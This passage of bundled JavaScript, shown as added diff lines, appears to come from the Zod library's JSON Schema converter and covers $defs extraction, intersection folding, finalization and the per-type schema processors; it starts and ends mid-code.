+    // break cycles
+    if (ctx.cycles === "throw") {
+        for (const entry of ctx.seen.entries()) {
+            const seen = entry[1];
+            if (seen.cycle) {
+                throw new Error("Cycle detected: " +
+                    `#/${seen.cycle?.join("/")}/<root>` +
+                    '\n\nSet the `cycles` parameter to `"ref"` to resolve cyclical schemas with defs.');
+            }
+        }
+    }
+    // extract schemas into $defs
+    for (const entry of ctx.seen.entries()) {
+        const seen = entry[1];
+        // convert root schema to # $ref
+        if (schema === entry[0]) {
+            extractToDef(entry); // this has special handling for the root schema
+            continue;
+        }
+        // extract schemas that are in the external registry
+        if (ctx.external) {
+            const ext = ctx.external.registry.get(entry[0])?.id;
+            if (schema !== entry[0] && ext) {
+                extractToDef(entry);
+                continue;
+            }
+        }
+        // extract schemas with `id` meta
+        const id = ctx.metadataRegistry.get(entry[0])?.id;
+        if (id) {
+            extractToDef(entry);
+            continue;
+        }
+        // break cycles
+        if (seen.cycle) {
+            // any
+            extractToDef(entry);
+            continue;
+        }
+        // extract reused schemas
+        if (seen.count > 1) {
+            if (ctx.reused === "ref") {
+                extractToDef(entry);
+            }
+        }
+    }
+    if (ctx.external)
+        ctx.sharedDefsExtractedFor = ctx.external;
+}
+/** Rewrites `anyOf: [{type: "a"}, {type: "b"}]` to `type: ["a", "b"]`, which every JSON Schema draft treats as equivalent and most consumers render far better for the nullable case. Only branches that are a bare type assertion qualify — anything carrying a constraint, `$ref`, `const` or metadata is left alone. Runs after `flattenRef`, so a branch an override decorated or `$defs` extraction turned into a `$ref` is no longer bare and correctly stays in `anyOf`. `oneOf` is excluded: `integer` and `number` overlap, so "exactly one" and "at least one" are not the same there. OpenAPI 3.0 is excluded: its `type` must be a single string. */
+function compactTypeUnion(schema) {
+    const options = schema.anyOf;
+    if (!Array.isArray(options) || options.length === 0 || schema.type !== undefined)
+        return;
+    const types = [];
+    for (const option of options) {
+        if (!option || typeof option !== "object")
+            return;
+        // A branch that is itself a compactible union folds into this one — nested `anyOf` and a flat `type` array say the same thing. Compacting it first also makes the result independent of the order this pass walks the seen map in.
+        compactTypeUnion(option);
+        const keys = Object.keys(option);
+        if (keys.length !== 1 || keys[0] !== "type")
+            return;
+        const type = option.type;
+        for (const member of Array.isArray(type) ? type : [type]) {
+            if (typeof member !== "string")
+                return;
+            if (!types.includes(member))
+                types.push(member);
+        }
+    }
+    delete schema.anyOf;
+    // A `type` array must be non-empty and unique (metaschema); a single member is spelled as a bare string.
+    schema.type = types.length === 1 ? types[0] : types;
+}
+/** Keywords `foldIntersection` knows how to combine. Anything else — `$ref`, `patternProperties`,
+ * an annotation like `description` — makes a member unfoldable, so a constraint this does not
+ * understand leaves the `allOf` alone instead of being silently dropped or misattributed. */
+const FOLDABLE_KEYS = new Set(["type", "properties", "required", "additionalProperties"]);
+const UNION_KEYS = ["oneOf", "anyOf"];
+/** A member's constraint on a key it does not declare itself. A `catchall` states one; `false`, an absent `additionalProperties`, and the empty schema a loose object emits state nothing. */
+function undeclaredConstraint(member) {
+    const extra = member.additionalProperties;
+    if (extra === undefined || extra === false || typeof extra !== "object" || extra === null)
+        return null;
+    return Object.keys(extra).length ? extra : null;
+}
+/** Combines object members into the single object they describe together, or returns `null` if any of them carries a keyword outside {@link FOLDABLE_KEYS}. */
+function foldObjects(members) {
+    const objects = [];
+    for (const member of members) {
+        // A boolean subschema is legal JSON Schema and carries no keywords to fold.
+        if (typeof member !== "object" || member.type !== "object")
+            return null;
+        for (const key in member) {
+            if (!FOLDABLE_KEYS.has(key))
+                return null;
+        }
+        objects.push(member);
+    }
+    const properties = {};
+    const required = new Set();
+    for (const object of objects) {
+        for (const key in object.properties) {
+            // `in` would report a `__proto__` key as already present via the prototype chain and skip it.
+            if (Object.prototype.hasOwnProperty.call(properties, key))
+                continue;
+            // Every member constrains this key: the ones that declare it say how, and a `catchall` member constrains it too even though it does not name it. The key has to satisfy all of them, which is the same intersection one level down.
+            const parts = [];
+            for (const other of objects) {
+                const part = other.properties?.[key] ?? undeclaredConstraint(other);
+                if (part === null || part === undefined)
+                    continue;
+                if (!parts.some((seen) => JSON.stringify(seen) === JSON.stringify(part)))
+                    parts.push(part);
+            }
+            const merged = parts.length === 1
+                ? parts[0]
+                : (foldObjects(parts) ?? { allOf: parts });
+            util_assignProp(properties, key, merged);
+        }
+        for (const key of object.required ?? [])
+            required.add(key);
+    }
+    const folded = { type: "object", properties };
+    if (required.size)
+        folded.required = [...required];
+    // A key no member declares is rejected only when every member rejects it, so the fold is closed only when every member is. Otherwise it carries whatever the `catchall` members demand of such a key.
+    if (objects.every((object) => object.additionalProperties === false)) {
+        folded.additionalProperties = false;
+    }
+    else {
+        const constraints = [];
+        for (const object of objects) {
+            const constraint = undeclaredConstraint(object);
+            if (constraint && !constraints.some((seen) => JSON.stringify(seen) === JSON.stringify(constraint)))
+                constraints.push(constraint);
+        }
+        if (constraints.length === 1)
+            folded.additionalProperties = constraints[0];
+        else if (constraints.length > 1)
+            folded.additionalProperties = { allOf: constraints };
+    }
+    return folded;
+}
+/** `additionalProperties` in an `allOf` member sees only that member's own `properties`, so two
+ * closed object members reject each other's keys and the schema validates nothing. Zod's parser
+ * pools the key sets instead — `handleIntersectionResults` reports a key as unrecognized only when
+ * *every* side rejects it — so the emitted schema has to pool them too, and folding the members
+ * into one object is the encoding that says so on every target.
+ *
+ * This runs from `finalize`, after `extractDefs`, which is what keeps it clear of the `$ref`
+ * machinery: a member extracted into `$defs` is already a `$ref` by now and declines to fold, so it
+ * keeps its reference and its own closedness rather than being inlined as a stale copy. */
+function foldIntersection(json) {
+    const allOf = json.allOf;
+    if (!Array.isArray(allOf) || allOf.length < 2)
+        return;
+    // An `override` runs before this pass and may have written object keywords onto the intersection itself. Those are deliberate, so decline rather than overwrite them.
+    for (const key of FOLDABLE_KEYS)
+        if (key in json)
+            return;
+    // An intersection distributes over a union: `A & (X | Y)` is `(A & X) | (A & Y)`. Only the first union is distributed over; a second one stays among the members every branch folds against, where it fails the object check and declines the whole intersection rather than multiplying out.
+    const unions = allOf.filter((m) => UNION_KEYS.some((k) => Array.isArray(m[k])));
+    let folded = null;
+    if (!unions.length) {
+        folded = foldObjects(allOf);
+    }
+    else {
+        const union = unions[0];
+        const keyword = UNION_KEYS.find((k) => Array.isArray(union[k]));
+        if (Object.keys(union).length !== 1)
+            return;
+        const rest = allOf.filter((m) => m !== union);
+        const branches = union[keyword].map((branch) => foldObjects([...rest, branch]));
+        if (branches.some((b) => !b))
+            return;
+        folded = { [keyword]: branches };
+    }
+    if (!folded)
+        return;
+    delete json.allOf;
+    assignProps(json, folded);
+}
+function to_json_schema_finalize(ctx, schema) {
+    const root = ctx.seen.get(schema);
+    if (!root)
+        throw new Error("Unprocessed schema. This is a bug in Zod.");
+    // flatten refs - inherit properties from parent schemas
+    const flattenRef = (zodSchema) => {
+        const seen = ctx.seen.get(zodSchema);
+        // already processed
+        if (seen.ref === null)
+            return;
+        const schema = seen.def ?? seen.schema;
+        const _cached = { ...schema };
+        const ref = seen.ref;
+        seen.ref = null; // prevent infinite recursion
+        if (ref) {
+            flattenRef(ref);
+            const refSeen = ctx.seen.get(ref);
+            const refSchema = refSeen.schema;
+            // merge referenced schema into current
+            if (refSchema.$ref && (ctx.target === "draft-07" || ctx.target === "draft-04" || ctx.target === "openapi-3.0")) {
+                // older drafts can't combine $ref with other properties
+                schema.allOf = schema.allOf ?? [];
+                schema.allOf.push(refSchema);
+            }
+            else {
+                assignProps(schema, refSchema);
+            }
+            // restore child's own properties (child wins)
+            assignProps(schema, _cached);
+            const isParentRef = zodSchema._zod.parent === ref;
+            // For parent chain, child is a refinement - remove parent-only properties
+            if (isParentRef) {
+                for (const key in schema) {
+                    if (key === "$ref" || key === "allOf")
+                        continue;
+                    if (!(key in _cached)) {
+                        delete schema[key];
+                    }
+                }
+            }
+            // When ref was extracted to $defs, remove properties that match the definition
+            if (refSchema.$ref && refSeen.def) {
+                for (const key in schema) {
+                    if (key === "$ref" || key === "allOf")
+                        continue;
+                    if (key in refSeen.def && JSON.stringify(schema[key]) === JSON.stringify(refSeen.def[key])) {
+                        delete schema[key];
+                    }
+                }
+            }
+        }
+        // If parent was extracted (has $ref), propagate $ref to this schema. This handles cases like: readonly().meta({id}).describe() where processor sets ref to innerType but parent should be referenced
+        const parent = zodSchema._zod.parent;
+        if (parent && parent !== ref) {
+            // Ensure parent is processed first so its def has inherited properties
+            flattenRef(parent);
+            const parentSeen = ctx.seen.get(parent);
+            if (parentSeen?.schema.$ref) {
+                schema.$ref = parentSeen.schema.$ref;
+                // De-duplicate with parent's definition
+                if (parentSeen.def) {
+                    for (const key in schema) {
+                        if (key === "$ref" || key === "allOf")
+                            continue;
+                        if (key in parentSeen.def && JSON.stringify(schema[key]) === JSON.stringify(parentSeen.def[key])) {
+                            delete schema[key];
+                        }
+                    }
+                }
+            }
+        }
+        // execute overrides
+        ctx.override({
+            zodSchema: zodSchema,
+            jsonSchema: schema,
+            path: seen.path ?? [],
+        });
+    };
+    // Flattening walks the whole map and clears each `ref` as it goes, so a second call over the same map is a no-op scan. Skip it outright once it has run for a registry conversion.
+    if (!ctx.external || ctx.sharedEmitDoneFor !== ctx.external) {
+        for (const entry of [...ctx.seen.entries()].reverse()) {
+            flattenRef(entry[0]);
+        }
+        if (ctx.target !== "openapi-3.0") {
+            for (const entry of ctx.seen.entries()) {
+                compactTypeUnion(entry[1].def ?? entry[1].schema);
+            }
+        }
+        for (const rewrite of ctx.deferred)
+            rewrite();
+        // After flattening, every member that was extracted is a `$ref`, so the fold sees the final shape. A schema that inherits an intersection — through `z.lazy`, or any `ref` chain — holds the same `allOf` array, so fold by array identity to catch every copy.
+        if (ctx.intersections.length) {
+            const carriers = new Map();
+            for (const seen of ctx.seen.values()) {
+                for (const json of [seen.schema, seen.def]) {
+                    const allOf = json?.allOf;
+                    if (!Array.isArray(allOf))
+                        continue;
+                    const existing = carriers.get(allOf);
+                    if (existing)
+                        existing.push(json);
+                    else
+                        carriers.set(allOf, [json]);
+                }
+            }
+            for (const allOf of ctx.intersections) {
+                for (const json of carriers.get(allOf) ?? [])
+                    foldIntersection(json);
+            }
+        }
+    }
+    const result = {};
+    if (ctx.target === "draft-2020-12") {
+        result.$schema = "https://json-schema.org/draft/2020-12/schema";
+    }
+    else if (ctx.target === "draft-07") {
+        result.$schema = "http://json-schema.org/draft-07/schema#";
+    }
+    else if (ctx.target === "draft-04") {
+        result.$schema = "http://json-schema.org/draft-04/schema#";
+    }
+    else if (ctx.target === "openapi-3.0") {
+        // OpenAPI 3.0 schema objects should not include a $schema property
+    }
+    else {
+        // Arbitrary string values are allowed but won't have a $schema property set
+    }
+    if (ctx.external?.uri) {
+        const id = ctx.external.registry.get(schema)?.id;
+        if (!id)
+            throw new Error("Schema is missing an `id` property");
+        result.$id = ctx.external.uri(id);
+    }
+    // when the root was extracted into $defs, `root.schema` is the `$ref` wrapper and `root.def` is the body that now lives under $defs
+    assignProps(result, root.defId ? root.schema : (root.def ?? root.schema));
+    // The `id` in `.meta()` is a Zod-specific registration tag used to extract schemas into $defs — it is not user-facing JSON Schema metadata. Strip it from the output body where it would otherwise leak. The id is preserved implicitly via the $defs key (and via $ref paths).
+    const rootMetaId = ctx.metadataRegistry.get(schema)?.id;
+    if (rootMetaId !== undefined && result.id === rootMetaId)
+        delete result.id;
+    // build defs object. With `external`, `defs` is the shared object every schema writes into, so the same entries are reassigned on every call. Without it, `defs` is fresh per call and must be rebuilt.
+    const defs = ctx.external?.defs ?? {};
+    if (!ctx.external || ctx.sharedEmitDoneFor !== ctx.external) {
+        for (const entry of ctx.seen.entries()) {
+            const seen = entry[1];
+            if (seen.def && seen.defId) {
+                if (seen.def.id === seen.defId)
+                    delete seen.def.id;
+                util_assignProp(defs, seen.defId, seen.def);
+            }
+        }
+    }
+    if (ctx.external)
+        ctx.sharedEmitDoneFor = ctx.external;
+    // set definitions in result
+    if (ctx.external) {
+    }
+    else {
+        if (Object.keys(defs).length > 0) {
+            if (ctx.target === "draft-2020-12") {
+                result.$defs = defs;
+            }
+            else {
+                result.definitions = defs;
+            }
+        }
+    }
+    try {
+        // this "finalizes" this schema and ensures all cycles are removed each call to finalize() is functionally independent though the seen map is shared
+        const finalized = JSON.parse(JSON.stringify(result));
+        Object.defineProperty(finalized, "~standard", {
+            value: {
+                ...schema["~standard"],
+                jsonSchema: {
+                    input: createStandardJSONSchemaMethod(schema, "input", ctx.processors),
+                    output: createStandardJSONSchemaMethod(schema, "output", ctx.processors),
+                },
+            },
+            enumerable: false,
+            writable: false,
+        });
+        return finalized;
+    }
+    catch (_err) {
+        throw new Error("Error converting schema to JSON.");
+    }
+}
+function isTransforming(_schema, _ctx) {
+    const ctx = _ctx ?? { seen: new Set() };
+    if (ctx.seen.has(_schema))
+        return false;
+    ctx.seen.add(_schema);
+    const def = _schema._zod.def;
+    if (def.type === "transform")
+        return true;
+    if (def.type === "array")
+        return isTransforming(def.element, ctx);
+    if (def.type === "set")
+        return isTransforming(def.valueType, ctx);
+    if (def.type === "lazy")
+        return isTransforming(def.getter(), ctx);
+    if (def.type === "promise" ||
+        def.type === "optional" ||
+        def.type === "nonoptional" ||
+        def.type === "nullable" ||
+        def.type === "readonly" ||
+        def.type === "default" ||
+        def.type === "prefault" ||
+        def.type === "catch") {
+        return isTransforming(def.innerType, ctx);
+    }
+    if (def.type === "intersection") {
+        return isTransforming(def.left, ctx) || isTransforming(def.right, ctx);
+    }
+    if (def.type === "record" || def.type === "map") {
+        return isTransforming(def.keyType, ctx) || isTransforming(def.valueType, ctx);
+    }
+    if (def.type === "pipe") {
+        if (_schema._zod.traits.has("$ZodCodec"))
+            return true;
+        return isTransforming(def.in, ctx) || isTransforming(def.out, ctx);
+    }
+    if (def.type === "object") {
+        for (const key in def.shape) {
+            if (isTransforming(def.shape[key], ctx))
+                return true;
+        }
+        return false;
+    }
+    if (def.type === "union") {
+        for (const option of def.options) {
+            if (isTransforming(option, ctx))
+                return true;
+        }
+        return false;
+    }
+    if (def.type === "tuple") {
+        for (const item of def.items) {
+            if (isTransforming(item, ctx))
+                return true;
+        }
+        if (def.rest && isTransforming(def.rest, ctx))
+            return true;
+        return false;
+    }
+    return false;
+}
+/**
+ * Creates a toJSONSchema method for a schema instance.
+ * This encapsulates the logic of initializing context, processing, extracting defs, and finalizing.
+ */
+const createToJSONSchemaMethod = (schema, processors = {}) => (params) => {
+    const ctx = to_json_schema_initializeContext({ ...params, processors });
+    to_json_schema_processSchema(schema, ctx);
+    to_json_schema_extractDefs(ctx, schema);
+    return to_json_schema_finalize(ctx, schema);
+};
+const createStandardJSONSchemaMethod = (schema, io, processors = {}) => (params) => {
+    const { libraryOptions, target } = params ?? {};
+    const ctx = to_json_schema_initializeContext({ ...(libraryOptions ?? {}), target, io, processors });
+    to_json_schema_processSchema(schema, ctx);
+    to_json_schema_extractDefs(ctx, schema);
+    return to_json_schema_finalize(ctx, schema);
+};
+
+;// CONCATENATED MODULE: ./node_modules/zod/v4/core/json-schema-processors.js
+
+
+
+
+const narrowMin = (agg, key, value) => {
+    if (agg[key] === undefined || value > agg[key])
+        agg[key] = value;
+};
+const narrowMax = (agg, key, value) => {
+    if (agg[key] === undefined || value < agg[key])
+        agg[key] = value;
+};
+const narrowBoth = (agg, value) => {
+    narrowMin(agg, "minimum", value);
+    narrowMax(agg, "maximum", value);
+};
+const addDivisor = (agg, value) => {
+    agg.multipleOf ?? (agg.multipleOf = []);
+    if (!agg.multipleOf.includes(value))
+        agg.multipleOf.push(value);
+};
+const addPattern = (agg, pattern) => {
+    agg.patterns ?? (agg.patterns = new Set());
+    agg.patterns.add(pattern);
+};
+const intersectMime = (agg, mime) => {
+    agg.mime = agg.mime ? agg.mime.filter((m) => mime.includes(m)) : [...mime];
+};
+// last-wins, matching the bag's historical write order; the flag keeps an integer format from being lost to a later float one
+const setFormat = (agg, format) => {
+    agg.format = format;
+    if (format.includes("int"))
+        agg.isInt = true;
+};
+const minContributor = (agg, def) => narrowMin(agg, "minimum", def.minimum);
+const maxContributor = (agg, def) => narrowMax(agg, "maximum", def.maximum);
+const formatContributor = (ranges) => (agg, def) => {
+    setFormat(agg, def.format);
+    const [minimum, maximum] = ranges[def.format];
+    narrowMin(agg, "minimum", minimum);
+    narrowMax(agg, "maximum", maximum);
+};
+const contributors = {
+    greater_than: (agg, def) => narrowMin(agg, def.inclusive ? "minimum" : "exclusiveMinimum", def.value),
+    less_than: (agg, def) => narrowMax(agg, def.inclusive ? "maximum" : "exclusiveMaximum", def.value),
+    multiple_of: (agg, def) => addDivisor(agg, def.value),
+    number_format: formatContributor(NUMBER_FORMAT_RANGES),
+    bigint_format: formatContributor(BIGINT_FORMAT_RANGES),
+    min_length: minContributor,
+    max_length: maxContributor,
+    length_equals: (agg, def) => narrowBoth(agg, def.length),
+    min_size: minContributor,
+    max_size: maxContributor,
+    size_equals: (agg, def) => narrowBoth(agg, def.size),
+    string_format: (agg, def) => {
+        setFormat(agg, def.format);
+        if (def.pattern)
+            addPattern(agg, def.pattern);
+        if (def.format === "base64" || def.format === "base64url")
+            agg.contentEncoding = def.format;
+        if (def.local || def.precision === -1)
+            agg.laxFormat = true;
+    },
+    mime_type: (agg, def) => intersectMime(agg, def.mime),
+};
+function aggregateChecks(schema) {
+    const agg = {};
+    const def = schema._zod.def;
+    // a format schema is its own first check, same rule as $ZodType init
+    const list = schema._zod.traits.has("$ZodCheck")
+        ? [schema, ...(def.checks ?? [])]
+        : (def.checks ?? []);
+    for (const ch of list)
+        contributors[ch._zod.def.check]?.(agg, ch._zod.def);
+    // reconcile with the bag so third-party onattach contributions still land; first-party residue is never tighter than the fold, so merging it back is idempotent for one and additive for the other
+    const bag = schema._zod.bag;
+    if (bag.minimum !== undefined)
+        narrowMin(agg, "minimum", bag.minimum);
+    if (bag.exclusiveMinimum !== undefined)
+        narrowMin(agg, "exclusiveMinimum", bag.exclusiveMinimum);
+    if (bag.maximum !== undefined)
+        narrowMax(agg, "maximum", bag.maximum);
+    if (bag.exclusiveMaximum !== undefined)
+        narrowMax(agg, "exclusiveMaximum", bag.exclusiveMaximum);
+    if (bag.multipleOf !== undefined)
+        addDivisor(agg, bag.multipleOf);
+    if (bag.format !== undefined) {
+        agg.format ?? (agg.format = bag.format);
+        if (bag.format.includes("int"))
+            agg.isInt = true;
+    }
+    if (bag.mime)
+        intersectMime(agg, bag.mime);
+    for (const pattern of bag.patterns ?? [])
+        addPattern(agg, pattern);
+    return agg;
+}
+const formatMap = {
+    guid: "uuid",
+    url: "uri",
+    datetime: "date-time",
+    json_string: "json-string",
+    regex: "", // do not set
+};
+// ==================== SIMPLE TYPE PROCESSORS ====================
+// the runtime patterns are lax so parse paths never overflow the regex stack; the emitted schema swaps in the exact block forms, which zod itself never executes
+const exactPatterns = new Map([
+    [base64Charset, base64],
+    [base64urlCharset, base64url],
+]);
+const exactPattern = (p) => exactPatterns.get(p) ?? p;
+const stringProcessor = (schema, ctx, _json, _params) => {
+    const json = _json;
+    json.type = "string";
+    const { minimum, maximum, format, patterns, contentEncoding, laxFormat } = aggregateChecks(schema);
+    if (typeof minimum === "number")
+        json.minLength = minimum;
+    if (typeof maximum === "number")
+        json.maxLength = maximum;
+    // custom pattern overrides format
+    if (format) {
+        json.format = formatMap[format] ?? format;
+        if (json.format === "")
+            delete json.format; // empty format is not valid
+        // `z.iso.time()` is never full-time, and `laxFormat` carries the datetime shapes that also accept what their keyword forbids
+        if (format === "time" || laxFormat) {
+            delete json.format;
+        }
+    }
+    if (contentEncoding)
+        json.contentEncoding = contentEncoding;
+    if (patterns && patterns.size > 0) {
+        const patternList = [...patterns].map(exactPattern);
+        if (patternList.length === 1)
+            json.pattern = patternList[0].source;
+        else if (patternList.length > 1) {
+            json.allOf = [
+                ...patternList.map((regex) => ({
+                    ...(ctx.target === "draft-07" || ctx.target === "draft-04" || ctx.target === "openapi-3.0"
+                        ? { type: "string" }
+                        : {}),
+                    pattern: regex.source,
+                })),
+            ];
+        }
+    }
+};
+const numberProcessor = (schema, ctx, _json, params) => {
+    const json = _json;
+    const { minimum, maximum, multipleOf, exclusiveMaximum, exclusiveMinimum, isInt } = aggregateChecks(schema);
+    json.type = isInt ? "integer" : "number";
+    // when both minimum and exclusiveMinimum exist, pick the more restrictive one
+    const exMin = typeof exclusiveMinimum === "number" && exclusiveMinimum >= (minimum ?? Number.NEGATIVE_INFINITY);
+    const exMax = typeof exclusiveMaximum === "number" && exclusiveMaximum <= (maximum ?? Number.POSITIVE_INFINITY);
+    const legacy = ctx.target === "draft-04" || ctx.target === "openapi-3.0";
+    if (exMin) {
+        if (legacy) {
+            json.minimum = exclusiveMinimum;
+            json.exclusiveMinimum = true;
+        }
+        else {
+            json.exclusiveMinimum = exclusiveMinimum;
+        }
+    }
+    else if (typeof minimum === "number") {
+        json.minimum = minimum;
+    }
+    if (exMax) {
+        if (legacy) {
+            json.maximum = exclusiveMaximum;
+            json.exclusiveMaximum = true;
+        }
+        else {
+            json.exclusiveMaximum = exclusiveMaximum;
+        }
+    }
+    else if (typeof maximum === "number") {
+        json.maximum = maximum;
+    }
+    if (multipleOf) {
+        // JSON Schema requires a divisor strictly greater than zero, and a non-finite one does not survive JSON at all. A negative divisor accepts exactly what its absolute value accepts, so it still maps; zero, NaN and Infinity have no keyword form.
+        const divisors = new Set();
+        for (const divisor of multipleOf) {
+            if (Number.isFinite(divisor) && divisor !== 0)
+                divisors.add(Math.abs(divisor));
+            else
+                handleUnrepresentable(schema, ctx, json, params, `A multipleOf divisor of ${divisor} cannot be represented in JSON Schema`);
+        }
+        // chained divisors are a conjunction the keyword cannot carry alone, so extras ride an allOf, same as stacked patterns
+        const [first, ...rest] = divisors;
+        if (first !== undefined)
+            json.multipleOf = first;
+        if (rest.length)
+            json.allOf = [...(json.allOf ?? []), ...rest.map((m) => ({ multipleOf: m }))];
+    }
+};
+const booleanProcessor = (_schema, _ctx, json, _params) => {
+    json.type = "boolean";
+};
+const bigintProcessor = (schema, ctx, json, params) => {
+    handleUnrepresentable(schema, ctx, json, params, "BigInt cannot be represented in JSON Schema");
+};
+const symbolProcessor = (schema, ctx, json, params) => {
+    handleUnrepresentable(schema, ctx, json, params, "Symbols cannot be represented in JSON Schema");
+};
+const nullProcessor = (_schema, ctx, json, _params) => {
+    if (ctx.target === "openapi-3.0") {
+        json.type = "string";
+        json.nullable = true;
+        json.enum = [null];
+    }
+    else {
+        json.type = "null";
+    }
+};
+const undefinedProcessor = (schema, ctx, json, params) => {
+    handleUnrepresentable(schema, ctx, json, params, "Undefined cannot be represented in JSON Schema");
+};
+const voidProcessor = (schema, ctx, json, params) => {
+    handleUnrepresentable(schema, ctx, json, params, "Void cannot be represented in JSON Schema");
+};
+const neverProcessor = (_schema, _ctx, json, _params) => {
+    json.not = {};
+};
+const anyProcessor = (_schema, _ctx, _json, _params) => {
+    // empty schema accepts anything
+};
+const unknownProcessor = (_schema, _ctx, _json, _params) => {
+    // empty schema accepts anything
+};
+const dateProcessor = (schema, ctx, json, params) => {
+    handleUnrepresentable(schema, ctx, json, params, "Date cannot be represented in JSON Schema");
+};
+const enumProcessor = (schema, _ctx, json, _params) => {
+    const def = schema._zod.def;
+    const values = getEnumValues(def.entries);
+    // an empty enum accepts nothing, same as z.never()
+    if (values.length === 0) {
+        json.not = {};
+        return;
+    }
+    // Number enums can have both string and number values
+    if (values.every((v) => typeof v === "number"))
+        json.type = "number";
+    if (values.every((v) => typeof v === "string"))
+        json.type = "string";
+    json.enum = values;
+};
+const literalProcessor = (schema, ctx, json, params) => {
+    const def = schema._zod.def;
+    // a literal with no values accepts nothing, same as z.never()
+    if (def.values.length === 0) {
+        json.not = {};
+        return;
+    }
+    const vals = [];
+    for (const val of def.values) {
+        if (val === undefined) {
+            // a custom schema replaces the whole literal, so there is nothing left to accumulate
+            if (handleUnrepresentable(schema, ctx, json, params, "Literal `undefined` cannot be represented in JSON Schema"))
+                return;
+            // otherwise do not add to vals
+        }
+        else if (typeof val === "bigint") {
+            if (handleUnrepresentable(schema, ctx, json, params, "BigInt literals cannot be represented in JSON Schema"))
+                return;
+            vals.push(Number(val));
+        }
+        else {
+            vals.push(val);
+        }
+    }
+    if (vals.length === 0) {
+        // do nothing (an undefined literal was stripped)
+    }
+    else if (vals.length === 1) {
+        const val = vals[0];
+        json.type = val === null ? "null" : typeof val;
+        if (ctx.target === "draft-04" || ctx.target === "openapi-3.0") {
+            json.enum = [val];
+        }
+        else {
+            json.const = val;
+        }
+    }
+    else {
+        if (vals.every((v) => typeof v === "number"))
+            json.type = "number";
+        if (vals.every((v) => typeof v === "string"))
+            json.type = "string";
+        if (vals.every((v) => typeof v === "boolean"))
+            json.type = "boolean";
+        if (vals.every((v) => v === null))
+            json.type = "null";
+        json.enum = vals;
+    }
+};
+const nanProcessor = (schema, ctx, json, params) => {
+    handleUnrepresentable(schema, ctx, json, params, "NaN cannot be represented in JSON Schema");
+};
+const templateLiteralProcessor = (schema, _ctx, json, _params) => {
+    const _json = json;
+    const pattern = schema._zod.pattern;
+    if (!pattern)
+        throw new Error("Pattern not found in template literal");
+    _json.type = "string";
+    _json.pattern = pattern.source;
+};
+const fileProcessor = (schema, _ctx, json, _params) => {
+    const _json = json;
+    _json.type = "string";
+    _json.format = "binary";
+    _json.contentEncoding = "binary";
+    const { minimum, maximum, mime } = aggregateChecks(schema);
+    if (minimum !== undefined)
+        _json.minLength = minimum;
+    if (maximum !== undefined)
+        _json.maxLength = maximum;
+    if (!mime)
+        return;
+    // an empty intersection means the mime checks share no value, so nothing passes at runtime; `anyOf` must be non-empty, so the false schema is `not: {}`
+    if (mime.length === 0)
+        _json.not = {};
+    else if (mime.length === 1)
+        _json.contentMediaType = mime[0];
+    // only contentMediaType differs, so the shared props stay at the root
+    else
+        _json.anyOf = mime.map((m) => ({ contentMediaType: m }));
+};
+const successProcessor = (_schema, _ctx, json, _params) => {
+    json.type = "boolean";
+};
+const customProcessor = (schema, ctx, json, params) => {
+    handleUnrepresentable(schema, ctx, json, params, "Custom types cannot be represented in JSON Schema");
+};
+const functionProcessor = (schema, ctx, json, params) => {
+    handleUnrepresentable(schema, ctx, json, params, "Function types cannot be represented in JSON Schema");
+};
+const transformProcessor = (schema, ctx, json, params) => {
+    handleUnrepresentable(schema, ctx, json, params, "Transforms cannot be represented in JSON Schema");
+};
+const mapProcessor = (schema, ctx, json, params) => {
+    handleUnrepresentable(schema, ctx, json, params, "Map cannot be represented in JSON Schema");
+};
+const setProcessor = (schema, ctx, json, params) => {
+    handleUnrepresentable(schema, ctx, json, params, "Set cannot be represented in JSON Schema");
+};
+// ==================== COMPOSITE TYPE PROCESSORS ====================
+const arrayProcessor = (schema, ctx, _json, params) => {
+    const json = _json;
+    const def = schema._zod.def;
+    const { minimum, maximum } = aggregateChecks(schema);
+    if (typeof minimum === "number")
+        json.minItems = minimum;
+    if (typeof maximum === "number")
+        json.maxItems = maximum;
+    json.type = "array";
+    json.items = to_json_schema_processSchema(def.element, ctx, {
+        ...params,
+        path: [...params.path, "items"],
+    });
+};
+// Transform and catch set `optin = "optional"` at runtime so the parser lets them observe an
+// absent key, but their declared input type stays required. An input JSON Schema describes the
+// declared type, so resolve past them to the schema that actually carries the optionality.
+// Used by both `objectProcessor` (for `required`) and `tupleProcessor` (for `minItems`); see
+// wiki/optionality.md, "The JSON Schema emitter reads the *static* value".
+function inputOptin(schema) {
+    const def = schema._zod.def;
+    if (def.type === "pipe" && def.in._zod.traits.has("$ZodTransform")) {
+        return inputOptin(def.out);
+    }
+    if (def.type === "catch") {
+        return inputOptin(def.innerType);
+    }
+    return schema._zod.optin;
+}
+const objectProcessor = (schema, ctx, _json, params) => {
+    const json = _json;
+    const def = schema._zod.def;
+    const shape = def.shape;
+    // dropping it while still emitting `additionalProperties: false` would emit a schema that rejects data this one requires
+    const symbolKeys = Object.getOwnPropertySymbols(shape);
+    if (symbolKeys.length &&
+        handleUnrepresentable(schema, ctx, json, params, "Symbol keys cannot be represented in JSON Schema")) {
+        return;
+    }
+    json.type = "object";
+    json.properties = {};
+    for (const key in shape) {
+        // assignProp so a __proto__ key becomes an own property instead of hitting the inherited setter on the plain {} we build into
+        util_assignProp(json.properties, key, to_json_schema_processSchema(shape[key], ctx, {
+            ...params,
+            path: [...params.path, "properties", key],
+        }));
+    }
+    // required keys
+    const requiredKeys = [];
+    for (const key of Object.keys(shape)) {
+        const field = def.shape[key];
+        if (ctx.io === "input" ? inputOptin(field) === undefined : field._zod.optout === undefined) {
+            requiredKeys.push(key);
+        }
+    }
+    if (requiredKeys.length > 0) {
+        json.required = requiredKeys;
+    }
+    // catchall
+    if (def.catchall?._zod.def.type === "never") {
+        // strict
+        json.additionalProperties = false;
+    }
+    else if (!def.catchall) {
+        // regular
+        if (ctx.io === "output")
+            json.additionalProperties = false;
+    }
+    else if (def.catchall) {
+        json.additionalProperties = to_json_schema_processSchema(def.catchall, ctx, {
+            ...params,
+            path: [...params.path, "additionalProperties"],
+        });
+    }
+};
+const unionProcessor = (schema, ctx, json, params) => {
+    const def = schema._zod.def;
+    // Exclusive unions (inclusive === false) use oneOf (exactly one match) instead of anyOf (one or more matches). This includes both z.xor() and discriminated unions
+    const isExclusive = def.inclusive === false;
+    const options = def.options.map((x, i) => to_json_schema_processSchema(x, ctx, {
+        ...params,
+        path: [...params.path, isExclusive ? "oneOf" : "anyOf", i],
+    }));
+    if (isExclusive) {
+        json.oneOf = options;
+    }
+    else {
+        json.anyOf = options;
+    }
+};
+const intersectionProcessor = (schema, ctx, json, params) => {
+    const def = schema._zod.def;
+    const a = to_json_schema_processSchema(def.left, ctx, {
+        ...params,
+        path: [...params.path, "allOf", 0],
